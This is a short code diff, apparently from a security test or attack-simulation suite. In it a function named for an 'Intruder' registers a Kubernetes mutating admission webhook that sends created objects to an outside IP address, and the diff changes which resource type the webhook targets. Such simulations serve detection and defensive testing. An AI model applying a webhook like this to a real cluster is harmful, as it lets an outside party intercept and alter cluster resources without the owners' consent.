@@ -108,11 +108,11 @@ def sends_webhook_outside(one: Intruder) -> None:
     hook = {
         "name": "m.example.org",
         "clientConfig": {"url": "https://203.0.113.7/mutate"},
-        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["replicationcontrollers"]}],
+        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["limitranges"]}],
         "failurePolicy": "Ignore",
         "sideEffects": "None",
         "admissionReviewVersions": ["v1"],
-    }  # fmt: skip
+    }
     meta = {"name": one.webhook}
     kind = {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration"}
     one.kubectl("apply", "-f", "-", stdin={**kind, "metadata": meta, "webhooks": [hook]})
